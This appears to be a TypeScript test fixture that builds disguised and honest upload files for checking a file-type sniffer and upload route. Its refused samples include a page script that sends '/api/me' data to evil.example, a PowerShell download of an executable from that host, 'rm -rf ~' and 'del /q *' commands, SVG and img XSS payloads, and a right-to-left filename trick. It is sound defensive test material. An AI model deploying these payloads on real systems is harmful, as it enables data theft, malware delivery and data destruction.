/**
 * Files that pretend to be something else, and honest files of every accepted kind, generated here so that no
 * binary is committed. The sniffer's unit test and the upload route's API test both go through every one.
 */

const bytes = (...parts: Array<string | number[] | Uint8Array>) =>
  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p))));

/** One local ZIP entry, stored (not compressed); enough for the first bytes a sniffer reads. */
function zipEntry(name: string, content: string | Uint8Array): Buffer {
  const data = typeof content === 'string' ? Buffer.from(content, 'utf8') : Buffer.from(content);
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt32LE(data.length, 18);
  header.writeUInt32LE(data.length, 22);
  header.writeUInt16LE(Buffer.byteLength(name), 26);
  return Buffer.concat([header, Buffer.from(name, 'utf8'), data]);
}
const zip = (...entries: Array<[string, string]>) => Buffer.concat(entries.map(([n, c]) => zipEntry(n, c)));

const CONTENT_TYPES = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
const JPEG = bytes([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10], 'JFIF', [0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xd9]);
const PDF = bytes('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
const OLE = bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], new Uint8Array(504));
const PAGE = '<html><body><script>fetch("/api/me").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script></body></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>';
const padded = (text: string) => ' '.repeat(4096) + text;

export interface CorpusFile {
  /** What it is, for the test's message. */
  what: string;
  name: string;
  bytes: Buffer;
}

/** Every one of these must be refused. */
export const DISGUISED: CorpusFile[] = [
  { what: 'a batch script', name: 'setup.bat', bytes: bytes('@echo off\r\nstart calc.exe\r\n') },
  {
    what: 'a PowerShell script',
    name: 'report.ps1',
    bytes: bytes('Invoke-WebRequest https://evil.example/x.exe -OutFile $env:TEMP\\x.exe\n'),
  },
  { what: 'a JScript file', name: 'invoice.js', bytes: bytes('new ActiveXObject("WScript.Shell").Run("calc");\n') },
  { what: 'a cmd script', name: 'run.cmd', bytes: bytes('del /q *\r\n') },
  { what: 'a VBScript', name: 'letter.vbs', bytes: bytes('CreateObject("WScript.Shell").Run "calc"\n') },
  { what: 'an HTML page', name: 'page.html', bytes: bytes(PAGE) },
  { what: 'an HTML page padded with 4 KB of spaces', name: 'page.html', bytes: bytes(padded(PAGE)) },
  { what: 'an HTML application padded with 4 KB of spaces', name: 'update.hta', bytes: bytes(padded(PAGE)) },
  { what: 'an SVG padded with 4 KB of spaces', name: 'logo.svg', bytes: bytes(padded(SVG)) },
  { what: 'an SVG', name: 'logo.svg', bytes: bytes(SVG) },
  { what: 'an HTML page called .txt', name: 'notes.txt', bytes: bytes(PAGE) },
  { what: 'an HTML page called .txt behind 4 KB of spaces', name: 'notes.txt', bytes: bytes(padded(PAGE)) },
  { what: 'an HTML page called .txt behind 8 KB of spaces', name: 'notes.txt', bytes: bytes(' '.repeat(8192), PAGE) },
  { what: 'an HTML page called .txt behind 3 KB of newlines and tabs', name: 'notes.txt', bytes: bytes('\n\t'.repeat(1536), PAGE) },
  {
    what: 'an HTML page called .txt behind byte-order marks and no-break spaces',
    name: 'notes.txt',
    bytes: bytes('\ufeff\ufeff\u00a0\u2003', PAGE),
  },
  { what: 'a page starting with a harmless tag, called .csv', name: 'data.csv', bytes: bytes('<p>hi</p><img src=x onerror=alert(1)>') },
  { what: 'an SVG called .csv', name: 'export.csv', bytes: bytes(SVG) },
  { what: 'XML called .md', name: 'readme.md', bytes: bytes('<?xml version="1.0"?><x:a xmlns:x="urn:x"/>') },
  { what: 'an SVG called .png', name: 'logo.png', bytes: bytes(SVG) },
  { what: 'a Windows program called .pdf', name: 'report.pdf', bytes: bytes('MZ', new Uint8Array(200).fill(0x90)) },
  { what: 'a shell script called .txt', name: 'notes.txt', bytes: bytes('#!/bin/sh\nrm -rf ~\n') },
  { what: 'a Linux program called .png', name: 'image.png', bytes: bytes([0x7f], 'ELF', [2, 1, 1, 0]) },
  { what: 'a batch script behind a right-to-left override', name: 'report\u202efdp.bat', bytes: bytes('@echo off\r\nstart calc.exe\r\n') },
  { what: 'a PDF called .exe', name: 'brief.exe', bytes: PDF },
  { what: 'a PNG called .html', name: 'image.html', bytes: PNG },
  { what: 'a PNG called .pdf', name: 'photo.pdf', bytes: PNG },
  { what: 'a PDF with an HTML page in its first bytes', name: 'brief.pdf', bytes: bytes('%PDF-1.4\n%', PAGE, '\n1 0 obj<<>>endobj\n') },
  {
    what: 'a JPEG with a script in its comment',
    name: 'photo.jpg',
    bytes: bytes([0xff, 0xd8, 0xff, 0xfe, 0x00, 0x40], '<script>alert(1)</script>', [0xff, 0xd9]),
  },
  { what: 'a gzip archive called .pdf', name: 'brief.pdf', bytes: bytes([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]) },
  { what: 'a ZIP called .docx without Office parts', name: 'contract.docx', bytes: zip(['payload/run.js', 'WScript.Echo(1)']) },
  {
    what: 'an Excel workbook called .docx',
    name: 'contract.docx',
    bytes: zip(['[Content_Types].xml', CONTENT_TYPES], ['xl/workbook.xml', '<workbook/>']),
  },
  { what: 'a text document called .ods', name: 'sheet.ods', bytes: zip(['mimetype', 'application/vnd.oasis.opendocument.text']) },
  { what: 'a ZIP called .odt without its mimetype', name: 'letter.odt', bytes: zip(['content.xml', '<office:document-content/>']) },
  { what: 'an old Office file called .msi', name: 'setup.msi', bytes: OLE },
  { what: 'text without an extension', name: 'notes', bytes: bytes('Plain words') },
  { what: 'text called .exe', name: 'notes.exe', bytes: bytes('Plain words') },
  { what: 'text with NUL bytes', name: 'notes.txt', bytes: bytes('Plain', [0, 0], 'words') },
  { what: 'UTF-16 text', name: 'notes.txt', bytes: bytes([0xff, 0xfe], Buffer.from('<html>', 'utf16le')) },
  { what: 'text that is not UTF-8', name: 'notes.txt', bytes: bytes([0x63, 0x61, 0x66, 0xe9, 0x20, 0x41]) },
  { what: 'an RTF document', name: 'letter.rtf', bytes: bytes('{\\rtf1\\ansi {\\object\\objemb}}') },
  { what: 'an empty file', name: 'empty.txt', bytes: Buffer.alloc(0) },
];

/** Every one of these must be accepted, as `type`. */
export const HONEST: Array<CorpusFile & { type: string }> = [
  { what: 'a PNG', name: 'mockup.png', bytes: PNG, type: 'image/png' },
  { what: 'a JPEG called .JPG', name: 'Photo.JPG', bytes: JPEG, type: 'image/jpeg' },
  { what: 'a JPEG called .jpeg', name: 'photo.jpeg', bytes: JPEG, type: 'image/jpeg' },
  { what: 'a GIF', name: 'spinner.gif', bytes: bytes('GIF89a', [1, 0, 1, 0, 0, 0, 0, 0x3b]), type: 'image/gif' },
  { what: 'a WebP', name: 'hero.webp', bytes: bytes('RIFF', [26, 0, 0, 0], 'WEBPVP8 '), type: 'image/webp' },
  { what: 'a PDF', name: 'brief.pdf', bytes: PDF, type: 'application/pdf' },
  {
    what: 'a Word document',
    name: 'contract.docx',
    bytes: zip(['[Content_Types].xml', CONTENT_TYPES], ['word/document.xml', '<w:document/>']),
    type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  },
  {
    what: 'an Excel workbook',
    name: 'budget.xlsx',
    bytes: zip(['_rels/.rels', '<Relationships/>'], ['xl/workbook.xml', '<workbook/>']),
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  },
  {
    what: 'a PowerPoint deck',
    name: 'pitch.pptx',
    bytes: zip(['[Content_Types].xml', CONTENT_TYPES]),
    type: 'application/vnd.openxmlformats-officedocument.presentationml.presentation',
  },
  {
    what: 'an OpenDocument text',
    name: 'letter.odt',
    bytes: zip(['mimetype', 'application/vnd.oasis.opendocument.text'], ['content.xml', '<office:document-content/>']),
    type: 'application/vnd.oasis.opendocument.text',
  },
  {
    what: 'an OpenDocument spreadsheet',
    name: 'sheet.ods',
    bytes: zip(['mimetype', 'application/vnd.oasis.opendocument.spreadsheet']),
    type: 'application/vnd.oasis.opendocument.spreadsheet',
  },
  {
    what: 'an OpenDocument presentation',
    name: 'deck.odp',
    bytes: zip(['mimetype', 'application/vnd.oasis.opendocument.presentation']),
    type: 'application/vnd.oasis.opendocument.presentation',
  },
  { what: 'an old Word document', name: 'letter.doc', bytes: OLE, type: 'application/msword' },
  { what: 'an old Excel workbook', name: 'budget.xls', bytes: OLE, type: 'application/vnd.ms-excel' },
  { what: 'an old PowerPoint deck', name: 'deck.ppt', bytes: OLE, type: 'application/vnd.ms-powerpoint' },
  { what: 'a ZIP of anything', name: 'assets.zip', bytes: zip(['logo.svg', SVG]), type: 'application/zip' },
  { what: 'a gzip archive', name: 'export.tar.gz', bytes: bytes([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), type: 'application/gzip' },
  { what: 'a gzip archive called .tgz', name: 'export.tgz', bytes: bytes([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), type: 'application/gzip' },
  { what: 'an MP4 video', name: 'walkthrough.mp4', bytes: bytes([0, 0, 0, 0x18], 'ftypisom', [0, 0, 2, 0]), type: 'video/mp4' },
  { what: 'an MP4 video called .m4v', name: 'walkthrough.m4v', bytes: bytes([0, 0, 0, 0x18], 'ftypM4V ', [0, 0, 2, 0]), type: 'video/mp4' },
  { what: 'a QuickTime video', name: 'screen.mov', bytes: bytes([0, 0, 0, 0x14], 'ftypqt  ', [0, 0, 2, 0]), type: 'video/quicktime' },
  { what: 'an MP3', name: 'voice-note.mp3', bytes: bytes('ID3', [4, 0, 0, 0, 0, 0, 0]), type: 'audio/mpeg' },
  { what: 'plain text', name: 'notes.txt', bytes: bytes('Meeting notes\n- launch on Friday\n- café ☕ menu copy\n'), type: 'text/plain' },
  {
    what: 'text with a byte-order mark and a few blank lines',
    name: 'notes.txt',
    bytes: bytes('\ufeff\n\n  Agenda\n'),
    type: 'text/plain',
  },
  { what: 'text called .text', name: 'notes.text', bytes: bytes('Call Ada on Monday\n'), type: 'text/plain' },
  { what: 'a log', name: 'build.log', bytes: bytes('12:00 started\n12:01 a < b and c > d\n'), type: 'text/plain' },
  { what: 'a CSV', name: 'export.csv', bytes: bytes('\ufeffname,amount\nAda,3\n'), type: 'text/csv' },
  { what: 'Markdown', name: 'readme.md', bytes: bytes('# Plan\n\n- **bold** and `code`\n'), type: 'text/markdown' },
  { what: 'Markdown called .markdown', name: 'plan.markdown', bytes: bytes('Plan\n====\n\n1. ship\n'), type: 'text/markdown' },
  { what: 'JSON', name: 'settings.json', bytes: bytes('{"theme":"dark","tags":["a<b"]}'), type: 'application/json' },
];
